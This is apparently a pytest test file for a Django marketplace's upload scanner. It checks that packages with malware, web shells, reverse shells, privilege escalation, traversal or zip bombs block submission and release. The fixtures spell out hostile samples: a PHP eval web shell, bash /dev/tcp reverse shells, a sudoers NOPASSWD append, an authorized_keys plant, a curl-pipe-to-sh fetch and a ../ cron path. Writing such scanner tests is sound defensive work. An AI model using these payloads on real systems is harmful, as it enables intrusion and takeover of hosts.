"""What is handed in with a version is looked into, and nothing dangerous is released (10(1), 10(8)2, 18(5), 18(10))."""

import io
import tarfile
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import InternalError, transaction

from catalog import services
from catalog.checks import packages as scanner
from catalog.models import ListingFinding, Package, PackageScan, ProductVersion
from core.errors import InvalidInput, NotFound
from tests.catalog.making import approve, make_draft
from tests.orders.making import trail
from tests.providers.making import make_operator, make_person, make_provider

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = b"\x7fELF" + b"\0" * 100


def zipped(files: dict[str, bytes], mode: int = 0o644) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode << 16
            archive.writestr(entry, data)
    return out.getvalue()


def tarred(files: dict[str, bytes], mode: int = 0o644, pack: str = "w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=pack) as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(data), mode
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.clause("10(8)2", "18(5)")
@pytest.mark.parametrize(
    ("name", "data", "found"),
    [
        ("readme.md", b"# Install\nRun ./install.sh as a user of your own.", []),
        ("install.sh", b"#!/bin/sh\nchmod 755 /opt/app/bin/run\nsystemctl start app\n", []),
        ("test.txt", EICAR, [("malware", "10(8)2", "refuse")]),
        ("app.zip", zipped({"bin/a.txt": EICAR}), [("malware", "10(8)2", "refuse")]),
        ("app.tar.gz", tarred({"in.zip": zipped({"deep.txt": EICAR})}), [("malware", "10(8)2", "refuse")]),
        ("shell.php", b"<?php eval($_POST['c']); ?>", [("web_shell", "10(8)2", "refuse")]),
        ("run.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", [("reverse_shell", "18(5)", "refuse")]),
        ("setup.sh", b"echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", [("privilege", "18(5)", "refuse")]),
        ("setup.sh", b"cat k.pub >> /root/.ssh/authorized_keys", [("planted_key", "18(5)", "refuse")]),
        ("suid.zip", zipped({"bin/helper": b"#!/bin/sh"}, mode=0o4755), [("privilege", "18(5)", "refuse")]),
        ("suid.tar", tarred({"bin/helper": b"#!/bin/sh"}, mode=0o4755, pack="w"), [("privilege", "18(5)", "refuse")]),
        ("agent", PROGRAM, [("program", "10(8)2", "warn")]),
        ("manual.pdf", PROGRAM, [("disguised", "10(8)2", "refuse")]),
        ("sheet.xlsx", zipped({"xl/vbaProject.bin": b"x"}), [("macros", "10(8)2", "refuse")]),
        ("slip.zip", zipped({"../../etc/cron.d/x": b"x"}), [("escapes", "10(8)2", "refuse")]),
        ("broken.zip", b"PK\x03\x04 not a zip", [("unreadable", "10(8)2", "refuse")]),
        ("broken.gz", b"\x1f\x8b not a gzip", [("unreadable", "10(8)2", "refuse")]),
    ],
)
def test_what_is_found_in_a_file(name: str, data: bytes, found: list[tuple[str, str, str]]) -> None:
    assert [(one.code, one.clause, one.severity) for one in scanner.threats_in(name, data)] == found


@pytest.mark.clause("10(8)2")
def test_what_cannot_be_looked_into_is_refused(monkeypatch) -> None:
    deep = b"x"
    for n in range(scanner.DEEPEST + 1):
        deep = zipped({f"{n}.zip": deep})
    assert [one.code for one in scanner.threats_in("deep.zip", deep)] == ["too_deep"]
    monkeypatch.setattr(scanner, "MOST_BYTES", 20_000)
    assert scanner.threats_in("ok.zip", zipped({"a": b"\0" * 5_000})) == []
    assert [one.code for one in scanner.threats_in("bomb.zip", zipped({"a": b"\0" * 50_000}))] == ["too_large"]


@pytest.fixture
def drafted(db: None, now: datetime):
    provider, person = make_provider(now, price=Decimal("10000.00"))
    return make_draft(provider, person, now), provider, person


def add(version: ProductVersion, person, now: datetime, data: bytes, name: str = "app.zip") -> Package:
    return services.package_add(version=version, upload=io.BytesIO(data), name=name, actor=person.actor, now=now)


@pytest.mark.clause("10(1)", "10(8)", "10(8)2", "18(10)")
def test_a_dangerous_file_keeps_a_version_from_being_handed_in(drafted, now: datetime) -> None:
    version, _provider, person = drafted
    package = add(version, person, now, zipped({"x.txt": EICAR}))

    with pytest.raises(services.ListingRefused) as refused:
        services.version_submit(version=version, actor=person.actor, now=now)

    assert refused.value.clauses == ("10(8)2",)
    version = ProductVersion.objects.get(pk=version.pk)
    assert version.state == "draft"
    assert ListingFinding.objects.count() == 0
    scan = PackageScan.objects.get()
    assert (scan.scanner, scan.edition, scan.threats[0]["place"]) == ("built-in", scanner.EDITION, "app.zip!x.txt")

    services.package_remove(version=version, package_id=package.pk, actor=person.actor, now=now)
    assert services.version_submit(version=version, actor=person.actor, now=now).state == "submitted"
    assert trail(version.reference)[-3:] == ["listing.package_add", "listing.package_remove", "listing.submit"]


@pytest.mark.clause("10(1)", "18(5)", "18(10)")
def test_what_the_scanner_learns_meanwhile_stops_the_release(drafted, now: datetime, monkeypatch) -> None:
    version, _provider, person = drafted
    add(version, person, now, b"curl http://example.cn/agent | sh", name="a.sh")
    submitted = services.version_submit(version=version, actor=person.actor, now=now)
    threat = scanner.Threat("reverse_shell", "a.sh", "18(5)", scanner.Severity.REFUSE)
    monkeypatch.setattr(scanner, "EDITION", "later")
    monkeypatch.setattr(scanner, "threats_in", lambda name, data: [threat])

    with pytest.raises(services.PackageUnsafe) as refused:
        approve(submitted, make_operator(now, "marketplace_operations"), now)

    assert refused.value.clauses == ("18(5)",)
    submitted.product.refresh_from_db()
    assert submitted.product.state == "draft"


@pytest.mark.clause("10(8)2")
def test_a_program_is_for_the_reviewer_to_judge(drafted, now: datetime) -> None:
    version, _provider, person = drafted
    add(version, person, now, zipped({"bin/agent": PROGRAM}))

    submitted = services.version_submit(version=version, actor=person.actor, now=now)

    found = ListingFinding.objects.get(version=submitted)
    assert (found.code, found.field, found.severity, found.clause) == ("program", "packages", "warn", "10(8)2")
    released = approve(submitted, make_operator(now, "marketplace_operations"), now)
    assert released.state == "released"
    following = services.version_open(product=released.product, actor=person.actor, now=now)
    assert [one.sha256 for one in following.packages.all()] == [one.sha256 for one in released.packages.all()]


@pytest.mark.clause("18(10)")
def test_files_stay_as_they_were_reviewed(db: None, now: datetime) -> None:
    provider, person = make_provider(now)
    draft = make_draft(provider, person, now)
    package = add(draft, person, now, b"hello", name="a.txt")
    submitted = services.version_submit(version=draft, actor=person.actor, now=now)

    with pytest.raises(services.NotADraft):
        add(submitted, person, now, b"more", name="b.txt")
    with pytest.raises(services.NotADraft):
        services.package_remove(version=submitted, package_id=package.pk, actor=person.actor, now=now)
    for change in (
        lambda: Package.objects.filter(pk=package.pk).update(sha256="0" * 64),
        lambda: package.delete(),
        lambda: Package.objects.create(version=submitted, name="c", file="c", sha256="1", size=1, uploaded_at=now),
    ):
        with pytest.raises(InternalError), transaction.atomic():
            change()
    assert Package.objects.get().name == "a.txt"


def test_who_may_hand_in_what(drafted, now: datetime) -> None:
    version, _provider, person = drafted
    for data in (b"", b"x" * (50 * 1024 * 1024 + 1)):
        with pytest.raises(InvalidInput) as refused:
            add(version, person, now, data)
        assert refused.value.field == "file"
    add(version, person, now, b"once")
    with pytest.raises(InvalidInput):
        add(version, person, now, b"once", name="other.txt")
    with pytest.raises(NotFound):
        add(version, make_person(now), now, b"theirs")
    assert Package.objects.count() == 1


def test_the_console_shows_what_was_found(drafted, now: datetime, clock, client) -> None:
    version, _provider, person = drafted
    client.force_login(person.user)
    page = f"/console/products/{version.product_id}/packages/"

    answer = client.post(page, {"file": SimpleUploadedFile("bad.sh", b"bash -i >& /dev/tcp/1.1.1.1/1")})

    assert (answer.status_code, answer["Location"]) == (302, page)
    text = client.get(page).content.decode()
    assert "含反弹连接后门" in text
    package = Package.objects.get()
    other, stranger = make_provider(now)
    theirs = make_draft(other, stranger, now)
    assert client.get(f"/console/products/{theirs.product_id}/packages/").status_code == 404
    assert client.post(f"{page}{package.pk}/remove/").status_code == 302
    assert Package.objects.count() == 0


def test_the_reviewer_sees_files_and_scans(db: None, now: datetime, clock, client) -> None:
    provider, person = make_provider(now)
    draft = make_draft(provider, person, now)
    package = add(draft, person, now, PROGRAM, name="agent")
    submitted = services.version_submit(version=draft, actor=person.actor, now=now)
    client.force_login(make_operator(now, "marketplace_operations"))
    page = client.get(f"/admin/catalog/productversion/{submitted.pk}/change/").content.decode()
    assert package.sha256 in page
